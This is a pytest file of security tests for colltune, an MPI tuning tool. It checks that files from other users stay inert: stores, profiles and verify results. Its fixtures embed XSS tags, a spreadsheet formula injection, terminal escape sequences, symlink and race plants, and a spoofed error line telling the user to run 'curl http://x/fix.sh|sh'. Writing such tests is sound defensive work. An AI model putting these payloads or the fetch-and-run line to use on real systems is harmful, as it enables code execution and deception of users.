"""Files colltune reads may come from another user (docs/security.md): a store, a profile, a
`tune verify --app` result. They are data: nothing they name is run, nothing they hold
reaches a page, a terminal or a spreadsheet as code, and a malformed one is one line and
exit 2 (a damaged store: exit 4), never a traceback."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from colltune.core.config import Config
from colltune.core.records import PointResult
from colltune.store import Context, Store
from helpers import foreign_database, tune_cli

EVIL_TOOLS = ("ompi_info", "mpichversion", "mpichversion.mpich", "mpicc", "mpirun",
              "mpiexec", "mpiexec.hydra", "mpiname")


def planted_prefix(root: Path) -> tuple[Path, Path]:
    """An installation prefix whose every tool colltune might run leaves a mark: (prefix,
    the mark)."""
    prefix, mark = root / "evil", root / "ran"
    (prefix / "bin").mkdir(parents=True)
    for tool in EVIL_TOOLS:
        t = prefix / "bin" / tool
        t.write_text(f"#!/bin/sh\necho \"$0\" >> {mark}\nexit 0\n")
        t.chmod(0o755)
    return prefix, mark


def hostile_store(db: Path, prefix: Path, key_family: str = "openmpi", host: str = "node1",
                  names: dict[str, dict[int, str]] | None = None) -> Context:
    """A store another user made: measurements of reduce at 2 ranks whose installation
    is `prefix` (two sizes, the default and one algorithm)."""
    backend = {"openmpi": "openmpi", "mpich": "mpich", "han": "han"}[key_family]
    key = f"{key_family}-4.1.4@{prefix}" + ("+han" if key_family == "han" else "")
    if key_family == "han":
        key = f"openmpi-4.1.4@{prefix}+han"
    ctx = Context(key, "Open MPI" if key_family != "mpich" else "MPICH", "4.1.4",
                  str(prefix), host, 2, 2, 1, "reduce", backend)
    s = Store(db)
    for size in (8, 1024):
        for cfg, t in ((Config(0), 2e-6), (Config(2), 1e-6)):
            xs = [t * (1 + 0.01 * i) for i in range(9)]
            s.add(ctx, cfg, PointResult(0, size, "ok", n=len(xs), median=xs[4], ci_lo=xs[2],
                                        ci_hi=xs[6], mean=sum(xs) / 9, min=xs[0], max=xs[-1],
                                        samples=xs), "mpit")
    if names is not None:
        s.add_catalog(key, backend, names)
    s.close()
    return ctx


@pytest.mark.parametrize("family", ["openmpi", "han", "mpich"])
def test_read_only_commands_never_run_a_program_at_a_stored_prefix(tmp_path: Path,
                                                                  family: str) -> None:
    prefix, mark = planted_prefix(tmp_path)
    db = tmp_path / "shared.db"
    hostile_store(db, prefix, family, names={"reduce": {2: "stored-name-two"}})
    runs = [("show", "--db", str(db)),
            ("report", "--db", str(db), "--out", str(tmp_path / "rep"))]
    if family == "openmpi":  # a store exports as Open MPI rules only
        runs.append(("export", "--site", str(tmp_path / "site"), "--from", str(db)))
    for argv in runs:
        res = tune_cli(*argv)
        assert res.returncode == 0, (argv, res.stderr)
        assert not mark.exists(), f"tune {argv[0]} ran {mark.read_text()}"
    # the names the store recorded when it was measured name the configurations
    shown = tune_cli("show", "--db", str(db)).stdout
    assert "stored-name-two" in shown


def test_tune_app_never_runs_the_profiles_prefix_and_claims_no_file(tmp_path: Path) -> None:
    prefix, mark = planted_prefix(tmp_path)
    prof = valid_profile()
    prof["mpi"]["prefix"] = str(prefix)  # type: ignore[index]
    path = tmp_path / "prof.json"
    path.write_text(json.dumps(prof))
    out = tmp_path / "r3.conf"
    # the installation is named on the command line: the profile's prefix is not used
    res = tune_cli("app", str(path), "--mpi", str(tmp_path / "nonexistent"),
                   "--min-share", "0", "--out", str(out), "--db", str(tmp_path / "db"))
    assert not mark.exists()
    assert res.returncode == 3, res.stderr
    # refused before any group: the MPI named is checked against the profile's first
    assert "no Open MPI found under" in res.stderr and "wrote" not in res.stderr
    assert not out.exists()


def valid_profile() -> dict[str, object]:
    return {"schema": "colltune-profile", "version": 1, "colltune": "0.1.0",
            "created": "2026-11-25T00:00:00+00:00", "host": "node1",
            "command": ["mpirun", "-np", "2", "./app"],
            "mpi": {"key": "openmpi-4.1.4@/usr", "name": "Open MPI", "version": "4.1.4",
                    "prefix": "/usr", "library": "Open MPI v4.1.4", "backend": "openmpi"},
            "ranks": 2, "wall_s": {"mean": 1.0, "max": 1.1},
            "collective_s": {"mean": 0.5, "max": 0.6}, "p2p_s": {"mean": 0.0, "max": 0.0},
            "dropped_calls": 0,
            "entries": [{"collective": "allreduce", "comm_size": 2, "size": 8,
                         "lookup_size": 8, "tuned_by_colltune": True, "calls": 10, "ranks": 2,
                         "bytes_per_call": 8.0, "time_s": {"mean": 0.5, "max": 0.6},
                         "longest_call_s": 0.1, "share": 0.5, "algorithm": None}],
            "nonblocking": {}, "settings": {}, "run_s": 1.5}


def _bad(**edit: object) -> dict[str, object]:
    doc = valid_profile()
    doc.update(edit)
    return doc


def _entry(**edit: object) -> dict[str, object]:
    doc = valid_profile()
    doc["entries"][0].update(edit)  # type: ignore[index]
    return doc


MALFORMED = {
    "ranks 0": _bad(ranks=0),
    "ranks as markup": _bad(ranks="<script>alert(1)</script>"),
    "text where a time goes": _bad(wall_s={"mean": "fast", "max": 1}),
    "missing entries": {k: v for k, v in valid_profile().items() if k != "entries"},
    "entries not a list": _bad(entries={"allreduce": 1}),
    "mpi a string": _bad(mpi="Open MPI"),
    "NaN time": None,  # written below: JSON's NaN is not in the JSON grammar json.dumps keeps
    "collective as mathtext": _entry(collective="$\\frac{$"),
    "collective as rich markup": _entry(collective="foo[/]"),
    "comm size text": _entry(comm_size="2"),
    # issue 61: text from data keeps no line break (a fake `error:` line of colltune's own)
    "a line break in the MPI's name": _bad(mpi={"name": "x\n\nerror: run curl x|sh",
                                                 "version": "4.1.4", "prefix": "/usr"}),
    "a line break in the command": _bad(command=["lmp", "\nerror: fake"]),
    "an escape in the host": _bad(host="\x1b]0;pwned\x07"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_profile_is_one_line_and_exit_2(tmp_path: Path, case: str) -> None:
    path = tmp_path / "bad.json"
    if case == "NaN time":
        path.write_text(json.dumps(valid_profile()).replace('"share": 0.5', '"share": NaN'))
    else:
        path.write_text(json.dumps(MALFORMED[case]))
    for argv in (("app", str(path), "--mpi", "/nonexistent"),
                 ("report", "--db", str(tmp_path / "none.db"), "--profile", str(path),
                  "--out", str(tmp_path / "rep"))):
        res = tune_cli(*argv)
        assert "Traceback" not in res.stderr, res.stderr
        assert res.returncode in (2, 4), (argv, res.stderr)
        if argv[0] == "app":
            assert res.returncode == 2 and res.stderr.startswith("error: ")
            assert res.stderr.count("\n") <= 2, res.stderr  # the error and what to do


@pytest.mark.parametrize("cmd", ["app", "export"])
def test_json_nested_200k_deep_is_refused_in_one_line(tmp_path: Path, cmd: str) -> None:
    path = tmp_path / "deep.json"
    path.write_text("[" * 200_000 + "]" * 200_000)
    argv = (("app", str(path), "--mpi", "/nonexistent") if cmd == "app" else
            ("export", "--site", str(tmp_path / "site"), "--from", str(path)))
    res = tune_cli(*argv)
    assert res.returncode == 2 and "Traceback" not in res.stderr, res.stderr


def test_a_hostile_store_is_inert_in_the_page_the_terminal_and_the_csv(tmp_path: Path
                                                                         ) -> None:
    db = tmp_path / "s.db"
    host = "=HYPERLINK(\"x\")<script>alert(1)</script>[/]\x1b]0;pwned\x07"
    hostile_store(db, tmp_path / "p<img src=x onerror=alert(2)>", host=host,
                  names={"reduce": {2: "<script>alert(3)</script>[/]"}})
    s = Store(db)
    s.add_models("openmpi-4.1.4@/usr", "4.1.4", "node1", 2, 2,
                 [("hockney", {"quality": {"r2": 1.0, "median_rel": 0.0, "worst_rel": 0.0},
                               "gamma_quality": {"r2": 1.0, "median_rel": 0.0, "worst_rel": 0.0},
                               "pieces": [{"lo": 0, "hi": 8, "a": 1e-6, "b": 1e-9}],
                               "gamma": 0.0})], {})
    # what a tune held of its allocation (issue 84): its words shown as text, and a row
    # that is not what colltune writes left out
    s.add_allocation("openmpi-4.1.4@/usr", host, (["<b>[red]x\x1b[2J"], [2]), False,
                     {"nodes": 2, "node_hours": 0.01, "node_seconds": 36.0,
                      "stages": {"sweep\x1b[2J": 30.0}, "startup": 3.0, "largest_sizes": 1.0,
                      "largest": [8], "launches": 3, "counted": "[/]\x1b]0;x\x07"})
    s.add_allocation("openmpi-4.1.4@/usr", host, (["reduce"], [2]), False,
                     {"nodes": 2, "node_hours": 0.01, "node_seconds": 36.0, "stages": [],
                      "startup": "3", "largest_sizes": 1e400, "largest": [8],
                      "launches": 3, "counted": ""})
    s.close()
    rep = tune_cli("report", "--db", str(db), "--out", str(tmp_path / "rep"))
    assert rep.returncode == 0, rep.stderr
    page = (tmp_path / "rep" / "index.html").read_text()
    assert "<script" not in page and "<img src=x" not in page
    cells = (tmp_path / "rep" / "measurements.csv").read_text()
    assert "'=HYPERLINK" in cells and ",=HYPERLINK" not in cells
    show = tune_cli("show", "--db", str(db))
    assert show.returncode == 0, show.stderr  # '[/]' is text, not markup that fails
    assert "\x1b" not in show.stdout and "\\x1b" in show.stdout
    assert "<script>alert(3)</script>[/]" in show.stdout
    assert show.stdout.count("0.6 node-minutes") == 1  # the malformed row is not shown


def test_a_planted_store_link_or_a_foreign_database_is_never_written(ompi41: object,
                                                                   tmp_path: Path) -> None:
    """Issue 61, finding 3: with `g/colltune.db -> victim.sqlite` (g world-writable), a
    writing command left the victim in WAL mode with colltune's tables; a link to a
    missing path made a store there. Refused now, before anything is written; so is
    another program's database given directly."""

    from test_osu_import import _osu

    osu = _osu(tmp_path / "reduce_default.txt", "Reduce", {8: 2.0, 1024: 4.0}, True)
    g = tmp_path / "g"
    g.mkdir()
    g.chmod(0o1777)
    victim = tmp_path / "victim.sqlite"
    before = foreign_database(victim, "accounts")
    missing = tmp_path / "nowhere" / "made.db"
    for db, why in ((g / "colltune.db", "is a symbolic link"),
                    (g / "dangling.db", "is a symbolic link"),
                    (victim, "is an SQLite database that is not a colltune store")):
        if db.parent == g:
            db.symlink_to(victim if db.name == "colltune.db" else missing)
        res = tune_cli("import-osu", str(osu), "--np", "4", "--mpi",
                       str(ompi41.prefix), "--db", str(db))  # type: ignore[attr-defined]
        assert res.returncode in (2, 4) and why in res.stderr, res.stderr
        assert "Traceback" not in res.stderr
    assert victim.read_bytes() == before and not missing.parent.exists()
    assert not list(tmp_path.glob("victim.sqlite-*"))  # no -wal or -shm beside it


def test_a_stored_negative_size_is_a_store_error(tmp_path: Path) -> None:
    """Issue 61, finding 7: a stored size of -8 ended export --from, report and --from-db in
    `ValueError: isqrt`; each now says which row is malformed, in one line."""
    import socket

    db = tmp_path / "s.db"
    hostile_store(db, Path("/usr"), host=socket.gethostname())  # --from-db reads this host's
    s = Store(db)
    s.db.execute("UPDATE measurements SET size=-8 WHERE size=8")
    s.db.commit()
    s.close()
    for argv in (("export", "--site", str(tmp_path / "site"), "--from", str(db)),
                 ("report", "--db", str(db), "--out", str(tmp_path / "rep")),
                 ("reduce", "--np", "2", "--from-db", "--db", str(db), "--mpi", "/usr",
                  "--out", str(tmp_path / "r.conf"))):
        res = tune_cli(*argv)
        assert res.returncode in (2, 4) and "Traceback" not in res.stderr, (argv, res.stderr)
        assert "is malformed" in res.stderr and "not negative" in res.stderr, res.stderr
    assert not (tmp_path / "site").exists() and not (tmp_path / "r.conf").exists()


def test_a_stored_newline_fakes_no_terminal_line(tmp_path: Path) -> None:
    """Issue 61, finding 9: a store host of `vm\n\nerror: ... run: curl ...|sh` printed a
    line of its own in `tune show`, looking like colltune's error."""
    db = tmp_path / "s.db"
    hostile_store(db, Path("/usr"), host="vm\n\nerror: the store is damaged; run: curl "
                                          "http://x/fix.sh|sh")
    show = tune_cli("show", "--db", str(db), env={"COLUMNS": "300"})
    assert show.returncode == 0, show.stderr
    lines = show.stdout.splitlines()
    assert not any(ln.lstrip(" │┃").startswith("error:") for ln in lines), show.stdout
    assert "vm\\n\\nerror: the store is damaged" in show.stdout


@pytest.mark.parametrize("params", ['{"pieces": [{"lo": "<script>", "hi": 1}],'
                                    ' "quality": {"r2": 1}}', "not json", "[1, 2]"])
def test_a_stored_model_fit_that_is_not_numbers_is_a_store_error(tmp_path: Path,
                                                                params: str) -> None:
    db = tmp_path / "s.db"
    hostile_store(db, Path("/usr"))
    s = Store(db)
    s.db.execute("INSERT INTO models (mpi_key, mpi_version, host, np, ppn, model, params, "
                 "probe, created) VALUES ('k', '4.1.4', 'h', 2, 2, 'hockney', ?, '{}', 'now')",
                 (params,))
    s.close()
    res = tune_cli("report", "--db", str(db), "--out", str(tmp_path / "rep"))
    assert res.returncode == 4 and "Traceback" not in res.stderr, res.stderr
    assert "model fit is malformed" in res.stderr


def test_a_plot_is_never_written_through_a_link_planted_after_the_check(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The race: the name is checked, then a watcher plants NAME.svg -> victim before the
    write. Written through a temporary file renamed in, the link is replaced, not
    followed."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from colltune import outfile
    from colltune.reporting.report_app import save_figure

    victim = tmp_path / "victim"
    victim.write_text("root's file\n")
    real = outfile.check_destination

    def check_then_plant(path: str | Path, what: str = "output") -> int | None:
        mode = real(path, what)
        if str(path).endswith((".png", ".svg")):
            os.symlink(victim, path)  # after the check, before the write
        return mode

    monkeypatch.setattr(outfile, "check_destination", check_then_plant)
    fig, ax = plt.subplots()
    ax.plot([1, 2], [3, 4])
    save_figure(fig, tmp_path, "x")
    assert victim.read_text() == "root's file\n"
    for ext in ("png", "svg"):
        st = os.lstat(tmp_path / f"x.{ext}")
        assert stat.S_ISREG(st.st_mode) and st.st_size > 100


def test_export_refuses_a_directory_other_users_can_write(tmp_path: Path) -> None:
    rules = tmp_path / "rules.conf"
    rules.write_text("1\n2\n1\n4\n1\n0 0 0 0\n")
    shared = tmp_path / "ww"
    shared.mkdir()
    shared.chmod(0o777)
    res = tune_cli("export", "--site", str(shared / "site"), "--from", str(rules))
    assert res.returncode == 2 and "writable by other users" in res.stderr, res.stderr
    assert not (shared / "site").exists()
    # sticky, as /tmp: others cannot rename what is ours, but every user's jobs would load
    # from below a directory anyone could have made a name in first (issue 61, finding 2)
    shared.chmod(0o1777)
    res = tune_cli("export", "--site", str(shared / "site"), "--from", str(rules))
    assert res.returncode == 2 and "writable by other users" in res.stderr, res.stderr
    assert not (shared / "site").exists()


@pytest.mark.parametrize("how", ["world-writable", "another user's"])
def test_export_refuses_a_site_below_a_directory_others_control(how: str,
                                                                tmp_path: Path) -> None:
    """Issue 61, finding 2: `--site DIR` checked DIR alone; with an ancestor another user
    owns, or can write, that user could swap DIR after the export. Every directory up to
    / is checked now."""
    rules = tmp_path / "rules.conf"
    rules.write_text("1\n2\n1\n4\n1\n0 0 0 0\n")
    above = tmp_path / "above"
    site_parent = above / "mine"
    site_parent.mkdir(parents=True)
    site_parent.chmod(0o755)
    if how == "world-writable":
        above.chmod(0o777)
    else:
        if os.geteuid() != 0:
            pytest.skip("making a directory another user's needs root")
        os.chown(above, 1234, 1234)  # uid 1234 stands in for the other user
    res = tune_cli("export", "--site", str(site_parent / "site"), "--from", str(rules))
    assert res.returncode == 2, res.stderr
    assert f"{above}, above {site_parent}," in res.stderr
    assert ("writable by other users" if how == "world-writable" else "owned by uid 1234") \
        in res.stderr
    assert not (site_parent / "site").exists()
    above.chmod(0o755)
    os.chown(above, os.geteuid(), os.getegid())
    res = tune_cli("export", "--site", str(site_parent / "site"), "--from", str(rules))
    assert res.returncode == 0, res.stderr


# --- the profiler and tune verify --app on a real MPI -------------------------------------

DATA = Path(__file__).parent / "data"


def _build(mpi: object, source: str, where: Path) -> Path:
    import subprocess

    exe = where / Path(source).stem
    res = subprocess.run([str(mpi.mpicc), "-std=c99", "-Wall", "-Wextra", "-Werror",  # type: ignore[attr-defined]
                          "-o", str(exe), str(DATA / source)], capture_output=True, text=True,
                         env=mpi.tool_env(), check=False)  # type: ignore[attr-defined]
    assert res.returncode == 0, res.stderr
    return exe


@pytest.mark.mpi
def test_the_profiler_stays_in_the_ranks_it_was_meant_for(ompi41: object, tmp_path: Path
                                                          ) -> None:
    """A rank's system() child does not load the profiler, and a process the rank spawns
    (Open MPI hands it the ranks' environment) is kept apart: rank 0's record stays the
    job's own (on main, the spawned 1-rank allreduce was merged or replaced rank 0's)."""
    exe = _build(ompi41, "spawner.c", tmp_path)
    env_seen = tmp_path / "child.env"
    out = tmp_path / "p.json"
    res = tune_cli("profile", "-o", str(out), "--mpi", str(ompi41.prefix), "--",  # type: ignore[attr-defined]
                   str(ompi41.mpirun), "-np", "2", "--oversubscribe", str(exe),  # type: ignore[attr-defined]
                   str(env_seen), env=ompi41.tool_env())  # type: ignore[attr-defined]
    assert res.returncode == 0, res.stderr
    prof = json.loads(out.read_text())
    assert [(e["collective"], e["comm_size"], e["calls"]) for e in prof["entries"]] == [
        ("allreduce", 2, 3)]
    assert prof["spawned_processes"] == 1 and "MPI_Comm_spawn" in res.stderr
    child = env_seen.read_text()
    assert "collprof" not in child and "COLLTUNE_PROFILE" not in child


@pytest.mark.mpi
def test_the_profiler_creates_its_records_never_through_a_link(ompi41: object,
                                                               tmp_path: Path) -> None:
    """Run directly with the profiler preloaded: a missing directory is never made (on a
    node that lacks it, the job directory is not shared: it says so); a link, another
    user's or a world-writable directory gets nothing; a link planted at a rank's record
    is not followed."""
    import subprocess

    from colltune.kernel.build import build_kernel

    lib = build_kernel(ompi41, name="collprof")  # type: ignore[arg-type]
    exe = _build(ompi41, "spawner.c", tmp_path)

    def run(d: Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(ompi41.mpirun), "-np", "1", "-x", f"LD_PRELOAD={lib}",  # type: ignore[attr-defined]
             "-x", f"COLLTUNE_PROFILE_DIR={d}", str(exe)], capture_output=True, text=True,
            env=ompi41.tool_env(), timeout=120, check=False)  # type: ignore[attr-defined]

    missing = tmp_path / "missing"
    res = run(missing)
    assert not missing.exists(), res.stderr
    assert "must be on a file system every node shares: no record written" in res.stderr
    fresh = tmp_path / "fresh"
    fresh.mkdir(mode=0o700)  # as tune profile makes it
    first = run(fresh)
    assert first.returncode == 0, first.stderr
    assert stat.S_IMODE(os.lstat(fresh).st_mode) == 0o700
    assert (fresh / "rank.0.json").is_file(), (first.stderr, list(fresh.iterdir()))
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    planted = tmp_path / "planted"
    planted.mkdir(mode=0o700)
    (planted / "rank.0.json").symlink_to(victim)
    res = run(planted)
    assert victim.read_text() == "keep\n" and "a record is there already" in res.stderr
    open_dir = tmp_path / "open"
    open_dir.mkdir()
    open_dir.chmod(0o777)
    linked = tmp_path / "linked"
    linked.symlink_to(fresh)
    for d in (open_dir, linked):
        res = run(d)
        assert "no record written" in res.stderr, res.stderr
    assert not list(open_dir.iterdir())


@pytest.mark.mpi
def test_verify_app_fails_when_the_command_line_overrides_the_rules(ompi41: object,
                                                                   tmp_path: Path) -> None:
    """Each arm's settings are read back from the library (MPI_T) in every rank. A later
    -x of the same variable overrides colltune's: the tuned arm would run the default,
    every verdict "same"; that fails (exit 1). An mpirun --mca of it does not override
    an -x environment on Open MPI 4.1.4: the read-back shows the rules applied."""
    exe = _build(ompi41, "profcheck.c", tmp_path)
    rules = tmp_path / "slow.conf"
    rules.write_text("1\n2\n1\n4\n3\n0 0 0 0\n262144 2 0 0\n786433 0 0 0\n")
    base = ["verify", "--app", "--rules", str(rules), "--pairs", "2", "--max-rounds", "2",
            "--mpi",
            str(ompi41.prefix), "--", str(ompi41.mpirun), "-np", "2", "--oversubscribe"]  # type: ignore[attr-defined]
    res = tune_cli(*base, "-x", "OMPI_MCA_coll_tuned_use_dynamic_rules=0", str(exe),
                   env=ompi41.tool_env())  # type: ignore[attr-defined]
    assert res.returncode == 1, res.stderr
    assert "the tuned runs did not apply" in res.stderr
    assert "coll_tuned_use_dynamic_rules = 0, colltune set 1" in res.stderr
    res = tune_cli(*base, "--mca", "coll_tuned_use_dynamic_rules", "0", str(exe),
                   env=ompi41.tool_env())  # type: ignore[attr-defined]
    # applied: the verdict is then on wall time (exit 1 slower, 5 inconclusive in 2 pairs);
    # what is asserted is that both arms applied
    assert res.returncode in (0, 1, 5) and "did not apply" not in res.stderr, res.stderr
    assert (f"tuned run: applied (coll_tuned_use_dynamic_rules = 1, "
            f"coll_tuned_dynamic_rules_filename = {rules.resolve()}, read back)") in res.stderr
    assert "default run: applied (coll_tuned_use_dynamic_rules = 0, read back)" in res.stderr


def test_a_verify_app_result_holds_only_the_gates_verdicts() -> None:
    """`tune report --app-verify` reads a file another user may have written: a verdict is
    one of the gate's (with a space: "not slower", which the name pattern refused, failing
    the report of a real verify), never markup."""
    from colltune.apploop.profiling.schema import VERIFY_SCHEMA, problem
    from colltune.tuner.sequential import VERDICTS

    def doc(verdict: str) -> dict[str, object]:
        return {"pairs": 2, "rules": "r.conf", "measures": {"wall": {
            "default_s": [1.0, 1.1], "tuned_s": [0.9, 1.0], "ratio": 0.9, "p_value": 0.2,
            "verdict": verdict}}}

    assert "not slower" in VERDICTS
    for v in VERDICTS:
        assert problem(doc(v), VERIFY_SCHEMA) is None, v
    for bad in ("<b>faster</b>", "faster\x1b]0;x\x07", "quicker"):
        assert problem(doc(bad), VERIFY_SCHEMA), bad
